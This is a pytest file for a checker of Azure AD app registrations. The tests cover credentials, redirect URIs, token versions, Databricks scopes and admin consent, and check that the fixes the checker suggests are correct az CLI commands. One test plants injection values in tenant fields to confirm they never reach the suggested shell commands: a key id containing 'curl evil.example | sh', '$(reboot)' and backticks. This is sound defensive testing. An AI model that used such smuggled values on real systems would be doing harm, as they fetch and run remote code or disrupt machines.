"""Each check of a registration: what makes it fail, what it says then, and that everything holds where nothing is wrong."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from tokenward.testing.graph import shapes

Change = Callable[[Any], object]
OTHER = "11111111-1111-4111-8111-111111111111"
PAST, SOON, LATER = "2026-12-31T00:00:00Z", "2027-01-20T00:00:00.1234567Z", "2028-01-01T00:00:00Z"


def test_everything_holds_where_nothing_is_wrong(estate: Any) -> None:
    found = estate.found()
    assert {name: finding.held for name, finding in found.items() if finding.held is not True} == {}
    assert {name for name, finding in found.items() if finding.fix} == set()
    assert len(found) == 20
    assert all(finding.source for finding in found.values())


def _with(path: str, value: object, *, of: str = "application") -> Change:
    """Set a member, which may lie in objects on the way."""

    def change(estate: Any) -> None:
        *way, last = path.split(".")
        item = getattr(estate, of)
        for name in way:
            item = item[name]
        item[last] = value

    return change


def _keys(*keys: shapes.Object, of: str = "application") -> Change:
    return _with("keyCredentials", list(keys), of=of)


def _secrets(*ends: str) -> Change:
    return _with("passwordCredentials", [shapes.password_credential(end) for end in ends])


def _gone(estate: Any) -> None:
    estate.directory.applications.clear()
    estate.directory.service_principals.remove(estate.principal)


@pytest.mark.parametrize(
    ("change", "name", "words"),
    [
        pytest.param(_gone, "application", "az ad sp create", id="no such application"),
        pytest.param(_gone, "service principal", "az ad sp create", id="no service principal"),
        pytest.param(
            lambda e: e.directory.applications.clear(), "application", "Check the client id", id="only its principal is left"
        ),
        pytest.param(_with("accountEnabled", False, of="principal"), "enabled", "accountEnabled=true", id="disabled"),
        pytest.param(
            _with("disabledByMicrosoftStatus", "DisabledDueToViolationOfServicesAgreement", of="principal"),
            "Microsoft's status",
            "support ticket",
            id="disabled by Microsoft",
        ),
        pytest.param(
            _with("appRoleAssignmentRequired", True, of="principal"), "assignment", "Users and groups", id="nobody is assigned"
        ),
        pytest.param(
            _keys(shapes.key_credential("Symmetric", "Sign", LATER)),
            "signing keys of the application",
            "az ad app credential delete",
            id="a symmetric signing key on the application",
        ),
        pytest.param(
            _keys(shapes.key_credential("symmetric", "sign", LATER), of="principal"),
            "signing keys of the service principal",
            "az ad sp credential delete",
            id="a symmetric signing key on the principal",
        ),
        pytest.param(_secrets(PAST), "client secrets", "--append", id="the only secret has expired"),
        pytest.param(_secrets(SOON, LATER), "client secrets", "--append", id="a secret ends soon"),
        pytest.param(
            _keys(shapes.key_credential("AsymmetricX509Cert", "Verify", PAST)),
            "certificates",
            "--cert",
            id="a certificate expired",
        ),
        pytest.param(_with("web.redirectUris", ["http://app.example/"]), "redirect URIs", "Authentication", id="plain http"),
        pytest.param(_with("spa.redirectUris", ["https://*.example/"]), "redirect URIs", "Authentication", id="a wildcard"),
        pytest.param(_with("web.redirectUris", ["https://a.example/#x"]), "redirect URIs", "Authentication", id="a fragment"),
        pytest.param(
            _with("web.redirectUris", [f"https://a.example/{'x' * 250}"]), "redirect URIs", "Authentication", id="too long"
        ),
        pytest.param(_with("web.redirectUris", ["https://[a/"]), "redirect URIs", "Authentication", id="no address at all"),
        pytest.param(
            lambda e: e.application.update(
                signInAudience="AzureADandPersonalMicrosoftAccount", api={"requestedAccessTokenVersion": None}
            ),
            "token version",
            "to 2",
            id="personal accounts with v1 tokens",
        ),
        pytest.param(_with("api.requestedAccessTokenVersion", 3), "token version", "to 2", id="a version that there is not"),
        pytest.param(_with("identifierUris", ["api://*"]), "identifier URIs", "Expose an API", id="a wildcard in an identifier"),
        pytest.param(
            lambda e: e.directory.service_principals.remove(e.databricks), "resource", "az ad sp create", id="no resource here"
        ),
        pytest.param(
            _with("accountEnabled", False, of="databricks"), "resource enabled", "accountEnabled", id="resource disabled"
        ),
        pytest.param(
            _with("disabledByMicrosoftStatus", "DisabledDueToViolationOfServicesAgreement", of="databricks"),
            "resource Microsoft's status",
            "support ticket",
            id="resource disabled by Microsoft",
        ),
        pytest.param(
            _with("appRoleAssignmentRequired", True, of="databricks"),
            "resource assignment",
            "Users and groups",
            id="not assigned",
        ),
        pytest.param(_with("oauth2PermissionScopes", [], of="databricks"), "permissions exposed", "Add a scope", id="no scopes"),
        pytest.param(
            _with("oauth2PermissionScopes", [{**shapes.delegated_permission("x"), "isEnabled": False}], of="databricks"),
            "permissions exposed",
            "Add a scope",
            id="only a disabled scope",
        ),
        pytest.param(
            lambda e: e.databricks["oauth2PermissionScopes"][0].update(id=OTHER),
            "permissions requested",
            f"{OTHER}=Scope",
            id="another id",
        ),
        pytest.param(lambda e: e.directory.grants.clear(), "permissions consented", "admin-consent", id="nobody consented"),
        pytest.param(
            _with("scope", "other", of="grant"), "permissions consented", "admin-consent", id="consent to another scope"
        ),
        pytest.param(_with("resourceId", OTHER, of="grant"), "permissions consented", "admin-consent", id="for another resource"),
    ],
)
def test_what_is_wrong_is_found_and_its_fix_told(estate: Any, change: Change, name: str, words: str) -> None:
    change(estate)
    found = estate.found()
    assert found[name].held is False
    assert words in found[name].fix


@pytest.mark.parametrize(
    ("change", "name", "seen"),
    [
        pytest.param(
            lambda e: (e.directory.applications.clear(), e.principal.update(appOwnerOrganizationId=OTHER)),
            "application",
            OTHER,
            id="registered in another tenant",
        ),
        pytest.param(
            lambda e: (e.principal.update(appRoleAssignmentRequired=True), e.directory.assign("Group", "staff", e.principal)),
            "assignment",
            "1 x Group",
            id="somebody is assigned",
        ),
        pytest.param(
            _keys(shapes.key_credential("AsymmetricX509Cert", "Sign", LATER), of="principal"),
            "signing keys of the service principal",
            "none",
            id="a certificate signs",
        ),
        pytest.param(
            _keys(shapes.key_credential("Symmetric", "Verify", LATER)),
            "signing keys of the application",
            "none",
            id="a symmetric key that signs nothing",
        ),
        pytest.param(_secrets(PAST, LATER), "client secrets", "1 valid; expired", id="an old secret beside a new one"),
        pytest.param(
            _keys(shapes.key_credential("AsymmetricX509Cert", "Sign", PAST), of="principal"),
            "certificates",
            "none",
            id="SAML's own",
        ),
        pytest.param(
            _with("web.redirectUris", ["http://localhost:8400/x", "https://app.example/"]), "redirect URIs", "2", id="localhost"
        ),
        pytest.param(_with("publicClient.redirectUris", ["msal0a1b://auth"]), "redirect URIs", "1", id="an app's own scheme"),
        pytest.param(_with("api.requestedAccessTokenVersion", None), "token version", "which means 1", id="v1 tokens"),
        pytest.param(
            lambda e: e.grant.update(consentType="Principal", principalId=OTHER),
            "permissions consented",
            "some users",
            id="by users",
        ),
    ],
)
def test_what_is_unusual_and_not_wrong_holds_and_is_told(estate: Any, change: Change, name: str, seen: str) -> None:
    change(estate)
    finding = estate.found()[name]
    assert finding.held is True
    assert seen in str(finding.seen)
    assert finding.fix == ""


@pytest.mark.parametrize(
    ("sent", "held", "words"),
    [
        pytest.param("https://app.example/signin", True, "Web", id="to the letter"),
        pytest.param("https://app.example/signin/", False, "Registered is https://app.example/signin", id="a slash more"),
        pytest.param("http://app.example/signin", False, "Registered is https://app.example/signin", id="without TLS"),
        pytest.param("https://app.example/SignIn", False, "Registered is https://app.example/signin", id="another case"),
        pytest.param("http://localhost:5000/cb", True, "Mobile and desktop", id="another port of localhost"),
        pytest.param("http://localhost:5000/other", False, "9002327", id="another path of localhost"),
        pytest.param("https://spa.example/", True, "Single-page", id="of a single-page application"),
    ],
)
def test_the_redirect_uri_that_is_sent_must_be_registered(estate: Any, sent: str, held: bool, words: str) -> None:
    estate.application["web"]["redirectUris"] = ["https://app.example/signin"]
    estate.application["publicClient"]["redirectUris"] = ["http://localhost:8400/cb"]
    estate.application["spa"]["redirectUris"] = ["https://spa.example/"]
    finding = estate.found(redirect_uri=sent)["redirect URI"]
    assert finding.held is held
    assert words in f"{finding.seen} {finding.fix}"


def test_a_token_of_another_tenant_is_told(estate: Any) -> None:
    finding = estate.found(tenant=OTHER)["tenant"]
    assert (finding.held, finding.seen) == (False, OTHER)


@pytest.mark.parametrize(
    ("asked", "held"),
    [
        pytest.param({"resource": "databricks", "scopes": ["user_impersonation"]}, True, id="exposed"),
        pytest.param({"scopes": ["2ff814a6-3304-4ab8-85cb-cd0e6f879c1d/sql"]}, False, id="not exposed"),
    ],
)
def test_scopes_that_are_asked_for_must_be_known(estate: Any, asked: dict[str, Any], held: bool) -> None:
    assert estate.found(**asked)["scopes known"].held is held


def test_application_permissions_need_an_administrator(estate: Any) -> None:
    api = estate.directory.enterprise_application(OTHER, "an API")
    api["appRoles"] = [shapes.app_role("Jobs.Run")]
    estate.directory.request(estate.application, api, roles=["Jobs.Run"])
    asked = {"resource": OTHER}
    assert estate.found(**asked)["application permissions consented"].held is False
    assert "Jobs.Run" in estate.found(**asked)["application permissions consented"].seen
    estate.directory.allow(estate.principal, api, "Jobs.Run")
    found = estate.found(**asked)
    assert found["application permissions consented"].held is True
    assert "permissions consented" not in found, "an application that acts in its own name needs no delegated permission"


@pytest.mark.parametrize(
    ("policies", "held"),
    [
        pytest.param(["ManagePermissionGrantsForSelf.microsoft-user-default-low"], True, id="they may"),
        pytest.param([], False, id="they may not"),
        pytest.param(["ManagePermissionGrantsForOwnedResource.x"], False, id="only for what they own"),
    ],
)
def test_whether_users_may_consent_is_told_where_nobody_did(estate: Any, policies: list[str], held: bool) -> None:
    estate.directory.user_consent = policies
    assert "users may consent" not in estate.found(), "an administrator consented"
    estate.directory.grants.clear()
    assert estate.found()["users may consent"].held is held


def test_each_resource_of_the_registration_has_its_part(estate: Any) -> None:
    api = estate.directory.enterprise_application(OTHER, "an API")
    api["oauth2PermissionScopes"] = [shapes.delegated_permission("jobs.read")]
    estate.directory.request(estate.application, api, ["jobs.read"])
    assert {"Permissions for AzureDatabricks", "Permissions for an API"} < set(estate.parts())
    assert set(estate.parts(resource="databricks")) & {"Permissions for an API"} == set()


def test_a_resource_is_found_by_its_address(estate: Any) -> None:
    estate.databricks["servicePrincipalNames"].append("api://data's")
    assert "Permissions for AzureDatabricks" in estate.parts(resource="api://data's")


def test_what_an_object_says_cannot_become_a_command(estate: Any) -> None:
    """Texts of the tenant are put into commands that an administrator will paste into a shell."""
    key = {**shapes.key_credential("Symmetric", "Sign", LATER), "keyId": "x; curl evil.example | sh #"}
    estate.application["keyCredentials"] = [key]
    estate.databricks["oauth2PermissionScopes"][0].update(id="$(reboot)", value="a`b`")
    estate.directory.grants.clear()
    estate.application["requiredResourceAccess"][0]["resourceAccess"].append({"id": "$(reboot)", "type": "Scope"})
    fixes = [finding.fix for finding in estate.found().values()]
    assert [fix for fix in fixes if "evil" in fix or "reboot" in fix or "`" in fix] == []
    assert any("--key-id <keyId>" in fix for fix in fixes)


@pytest.mark.parametrize(
    "name", ["keyCredentials", "passwordCredentials", "web", "api", "requiredResourceAccess", "identifierUris"]
)
@pytest.mark.parametrize("value", [None, 7, "x", {"a": 1}, [None, 7, "x", {}]], ids=["null", "number", "text", "object", "list"])
def test_odd_members_of_an_object_raise_nothing(estate: Any, name: str, value: object) -> None:
    for item in (estate.application, estate.principal, estate.databricks):
        item[name] = value
    assert estate.found()
